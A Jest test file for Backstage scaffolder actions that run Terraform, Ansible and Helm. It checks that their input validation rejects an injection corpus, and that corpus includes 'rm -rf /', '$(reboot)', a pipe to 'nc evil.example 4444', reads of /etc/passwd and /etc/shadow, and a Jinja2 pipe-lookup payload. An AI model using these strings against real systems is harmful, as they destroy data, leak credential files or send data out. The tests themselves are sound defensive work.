import { TemplateAction } from '@backstage/plugin-scaffolder-node';
import { helmConfig } from '../__testUtils__/helmWorkspace';
import {
  createTempDir,
  iacConfig,
  runAction,
} from '../__testUtils__/testContext';
import {
  createTerraformWorkspace,
  terraformCalls,
  terraformConfig,
} from '../__testUtils__/terraformWorkspace';
import { createAnsiblePlaybookRunAction } from './ansible/ansiblePlaybookRun';
import { toUnsafeExtraVarsJson } from './ansible/variables';
import { createHelmReleaseUninstallAction } from './helm/helmReleaseUninstall';
import { createHelmReleaseUpgradeAction } from './helm/helmReleaseUpgrade';
import { createTerraformApplyAction } from './terraform/terraformApply';
import { createTerraformDestroyAction } from './terraform/terraformDestroy';
import { createTerraformPlanAction } from './terraform/terraformPlan';

/** A Jinja2 template that runs a command when Ansible renders it. */
const TEMPLATE_PAYLOAD = "{{ lookup('pipe', 'echo MARKER-$((6*7))') }}";

/** Shell injection and option injection, as a template user might type them. */
const INJECTION_CORPUS = [
  '; rm -rf /',
  'x; rm -rf /',
  '$(reboot)',
  '${HOME}',
  '`id`',
  'a && b',
  'a | nc evil.example 4444',
  '-var-file=/etc/passwd',
  '-chdir=/',
  '--kubeconfig',
  '--kubeconfig=/root/.kube/config',
  '-i',
  '--extra-vars=@/etc/shadow',
  '../../etc/passwd',
  '/etc/passwd',
  'line\nbreak',
  "x' OR '1'='1",
  // Ansible: templates are rendered on the controller, options change where tasks run.
  TEMPLATE_PAYLOAD,
  '{% raw %}x{% endraw %}',
  "#jinja2:variable_start_string:'[['",
  'ansible_connection=local',
  '--connection=local',
  '-e ansible_connection=local',
];

/** Extra variable names Ansible reads itself; refused in extraVars and sensitiveExtraVars. */
const RESERVED_ANSIBLE_VARIABLES = [
  'ansible_connection',
  'ansible_ssh_common_args',
  'ansible_python_interpreter',
  'ansible_become_exe',
  'ansible_host',
  'hostvars',
  'groups',
  'group_names',
  'inventory_hostname',
  'inventory_file',
  'omit',
  'playbook_dir',
  'role_name',
  'play_hosts',
  'environment',
  'vars',
];

/** Base input of each action plus the fields that become arguments. */
const cases: Array<{
  id: string;
  action: TemplateAction<any, any, any>;
  base: Record<string, unknown>;
  fields: string[];
  arrayFields?: string[];
  keyFields?: string[];
}> = [
  ...[
    createTerraformPlanAction,
    createTerraformApplyAction,
    createTerraformDestroyAction,
  ].map(create => ({
    id: '',
    action: create({ config: terraformConfig() }),
    base: { workingDirectory: 'terraform' },
    fields: ['workingDirectory', 'backend', 'owner', 'name'],
    keyFields: ['variables', 'sensitiveVariables'],
  })),
  {
    id: '',
    action: createAnsiblePlaybookRunAction({ config: iacConfig({}) }),
    base: { playbook: 'site.yaml', hosts: ['web-1'] },
    fields: ['playbook', 'inventory', 'remoteUser', 'limit'],
    arrayFields: ['hosts', 'tags', 'skipTags'],
    keyFields: ['extraVars', 'sensitiveExtraVars'],
  },
  {
    id: '',
    action: createHelmReleaseUpgradeAction({
      config: helmConfig(createTempDir()),
    }),
    base: {
      owner: 'group:default/checkout-team',
      name: 'web',
      namespace: 'shop',
      chart: 'chart',
    },
    fields: [
      'owner',
      'name',
      'namespace',
      'chart',
      'repository',
      'chartName',
      'version',
      'waitTimeout',
    ],
  },
  {
    id: '',
    action: createHelmReleaseUninstallAction({
      config: helmConfig(createTempDir()),
    }),
    base: {
      owner: 'group:default/checkout-team',
      name: 'web',
      namespace: 'shop',
    },
    fields: ['owner', 'name', 'namespace', 'waitTimeout'],
  },
].map(c => ({ ...c, id: c.action.id }));

function patternsOf(schema: any): string[] {
  if (!schema || typeof schema !== 'object') {
    return [];
  }
  return [
    ...(typeof schema.pattern === 'string' ? [schema.pattern] : []),
    ...Object.values(schema).flatMap(patternsOf),
  ];
}

jest.setTimeout(30_000);

describe.each(cases)(
  '$id input',
  ({ action, base, fields, arrayFields = [], keyFields = [] }) => {
    it('puts a pattern on every field that becomes an argument, and the patterns reject the corpus', () => {
      const properties = (action.schema?.input as any).properties;
      for (const field of [...fields, ...arrayFields]) {
        const patterns = patternsOf(properties[field]).map(
          p => new RegExp(p, 'u'),
        );
        expect({ field, patterns: patterns.length }).toEqual({
          field,
          patterns: 1,
        });
        for (const value of INJECTION_CORPUS) {
          expect({ field, value, accepted: patterns[0].test(value) }).toEqual({
            field,
            value,
            accepted: false,
          });
        }
      }
    });

    it('rejects the corpus in every argument field before anything runs', async () => {
      const workspace = createTerraformWorkspace();
      for (const value of INJECTION_CORPUS) {
        const inputs = [
          ...fields.map(field => ({ ...base, [field]: value })),
          ...arrayFields.map(field => ({ ...base, [field]: [value] })),
          ...keyFields.map(field => ({ ...base, [field]: { [value]: 'x' } })),
        ];
        for (const input of inputs) {
          const result = await runAction(action, {
            workspacePath: workspace,
            input,
          });
          expect(result.error?.name).toBe('InputError');
          expect(result.error?.message).toMatch(/^Invalid input to /);
          expect(result.logs).toEqual([]);
        }
      }
      expect(terraformCalls(workspace)).toEqual([]);
    });

    it('accepts the base input, so the rejections come from the injected values', async () => {
      const result = await runAction(action, {
        workspacePath: createTerraformWorkspace(),
        input: base,
      });
      expect(result.error?.message ?? '').not.toMatch(/^Invalid input to /);
    });
  },
);

describe('issue 9 case 2: Ansible extra vars', () => {
  const action = createAnsiblePlaybookRunAction({ config: iacConfig({}) });

  it('refuses every reserved name in extraVars and sensitiveExtraVars, naming it, before anything runs', async () => {
    const workspace = createTerraformWorkspace();
    for (const field of ['extraVars', 'sensitiveExtraVars']) {
      for (const name of RESERVED_ANSIBLE_VARIABLES) {
        const result = await runAction(action, {
          workspacePath: workspace,
          input: {
            playbook: 'site.yaml',
            hosts: ['web-1'],
            [field]: { [name]: 'local' },
          },
        });
        expect(result.error?.name).toBe('InputError');
        expect(result.error?.message).toContain(
          `${field}.${name}: ${name} is reserved`,
        );
        expect(result.logs).toEqual([]);
      }
    }
  });

  it('accepts the corpus as values and marks every string unsafe, at every depth', () => {
    const vars = {
      top: TEMPLATE_PAYLOAD,
      list: [...INJECTION_CORPUS],
      nested: { deeper: { value: TEMPLATE_PAYLOAD }, count: 2 },
      flag: true,
      nothing: null,
    };
    expect(JSON.parse(toUnsafeExtraVarsJson(vars))).toEqual({
      top: { __ansible_unsafe: TEMPLATE_PAYLOAD },
      list: INJECTION_CORPUS.map(value => ({ __ansible_unsafe: value })),
      nested: {
        deeper: { value: { __ansible_unsafe: TEMPLATE_PAYLOAD } },
        count: 2,
      },
      flag: true,
      nothing: null,
    });
  });
});
